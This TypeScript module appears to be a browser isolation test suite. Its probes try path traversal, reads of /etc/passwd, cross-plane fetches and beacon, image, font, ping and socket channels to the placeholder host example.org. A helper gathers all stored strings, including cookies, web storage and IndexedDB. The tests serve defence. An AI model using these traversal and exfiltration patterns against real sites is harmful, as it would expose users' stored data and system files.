/** Ways to data of somebody else: the other plane, other lookups, the disk, the network. SECURITY: S1 S4 */
import type { Script, Seen } from './tools.ts';

/** What both planes try alike. */
export const reaches: Readonly<Record<string, Script>> = {
  'other-planes-page': async () => {
    const answer = await fetch(Reflect.get(window, 'attackTools').otherPlane());
    return [answer.ok, `HTTP ${answer.status}`];
  },
  'other-planes-page-from-here': async () => {
    const other = location.pathname.startsWith('/staff/') ? '/customer/index.html' : '/staff/index.html';
    const answer = await fetch(other);
    return [answer.ok, `HTTP ${answer.status} ${await answer.text()}`];
  },
  'path-upwards': async () => {
    const answer = await fetch('/assets/../../main.js');
    return [answer.ok, `HTTP ${answer.status} ${await answer.text()}`];
  },
  'escaped-path-upwards': async () => {
    const answer = await fetch('/assets/%2e%2e%2f%2e%2e%2fmain.js');
    return [answer.ok, `HTTP ${answer.status} ${await answer.text()}`];
  },
  'absolute-path': async () => {
    const answer = await fetch('//etc/passwd').catch((error: unknown) => String(error));
    return typeof answer === 'string' ? [false, answer] : [answer.ok, `HTTP ${answer.status}`];
  },
  'file-by-fetch': async () => {
    const answer = await fetch('file:///etc/passwd');
    return [true, await answer.text()];
  },
  'post-to-own-page': async () => {
    const answer = await fetch(location.pathname, { method: 'POST', body: 'x' });
    return [answer.ok, `HTTP ${answer.status} ${await answer.text()}`];
  },
  'user-in-the-address': async () => {
    const answer = await fetch(location.href.replace('://', '://x:y@'));
    return [answer.ok, `HTTP ${answer.status}`];
  },
  'foreign-by-fetch': async () => {
    await fetch('https://example.org/', { mode: 'no-cors' });
    return [true, 'fetched'];
  },
  'foreign-by-xhr': () =>
    new Promise<Seen>((resolve) => {
      const request = new XMLHttpRequest();
      request.onload = () => resolve([true, 'fetched']);
      request.onerror = () => resolve([false, 'XMLHttpRequest error']);
      request.open('GET', 'http://127.0.0.1:9/');
      request.send();
    }),
  'loopback-service': async () => {
    await fetch('http://127.0.0.1:9/', { mode: 'no-cors' });
    return [true, 'fetched'];
  },
  'web-socket': () =>
    new Promise<Seen>((resolve) => {
      const socket = new WebSocket('wss://127.0.0.1:9/');
      socket.onopen = () => resolve([true, 'open']);
      socket.onerror = () => resolve([false, 'WebSocket error']);
    }),
  'event-source': () =>
    new Promise<Seen>((resolve) => {
      const source = new EventSource('https://example.org/');
      source.onopen = () => resolve([true, 'open']);
      source.onerror = () => {
        source.close();
        resolve([false, 'EventSource error']);
      };
    }),
  beacon: async () => {
    const violation = Reflect.get(window, 'attackTools').violation();
    navigator.sendBeacon('https://example.org/', 'x');
    return violation;
  },
  'picture-as-a-beacon': async () => {
    const violation = Reflect.get(window, 'attackTools').violation();
    new Image().src = 'https://example.org/x.png?text';
    return violation;
  },
  'font-as-a-beacon': async () => {
    await new FontFace('x', 'url(https://example.org/x.woff2)').load();
    return [true, 'loaded'];
  },
  'link-ping': async () => {
    const violation = Reflect.get(window, 'attackTools').violation();
    const link = Object.assign(document.createElement('a'), { href: '#', ping: 'https://example.org/' });
    document.body.append(link);
    link.click();
    const seen: Seen = await violation;
    link.remove();
    return seen;
  },
  'other-planes-broadcast': () => {
    const channel = new BroadcastChannel('attack');
    const heard = new Promise<Seen>((resolve) => {
      channel.onmessage = ({ data }) => resolve([true, `heard ${data}`]);
    });
    channel.postMessage('who is there');
    const nobody = (async (): Promise<Seen> => {
      await Reflect.get(window, 'attackTools').settled();
      return [false, 'nobody hears a broadcast'];
    })();
    return Promise.race([heard, nobody]);
  },
  'opener-parent-and-frames': () => {
    const alone = window.opener === null && window.parent === window && window.frames.length === 0;
    return [!alone, 'no opener, no parent, no frames'];
  },
};

/** Every string that lies in the page's databases, files, caches and storage. For the staff plane none is a text. */
export async function everythingStored(): Promise<string> {
  const found: string[] = [];
  const text = (value: unknown): void => {
    if (typeof value === 'string') found.push(value);
    else if (value instanceof ArrayBuffer) found.push(new TextDecoder('latin1').decode(value));
    else if (ArrayBuffer.isView(value)) found.push(new TextDecoder('latin1').decode(value));
    else if (typeof value === 'object' && value !== null) for (const one of Object.values(value)) text(one);
  };
  const settle = <T>(request: IDBRequest<T>) =>
    new Promise<T>((resolve, reject) => {
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => reject(request.error);
    });
  for (const { name } of await indexedDB.databases()) {
    if (name === undefined) continue;
    const database = await settle(indexedDB.open(name));
    for (const store of database.objectStoreNames) {
      text(await settle(database.transaction(store).objectStore(store).getAll()));
    }
    database.close();
  }
  for await (const handle of (await navigator.storage.getDirectory()).values()) {
    found.push(handle.name);
    if (handle instanceof FileSystemFileHandle) text(await (await handle.getFile()).arrayBuffer());
  }
  for (const name of await caches.keys()) found.push(name);
  for (const storage of [localStorage, sessionStorage]) text(Object.values({ ...storage }));
  found.push(document.cookie, document.documentElement.outerHTML);
  return found.join('\n');
}
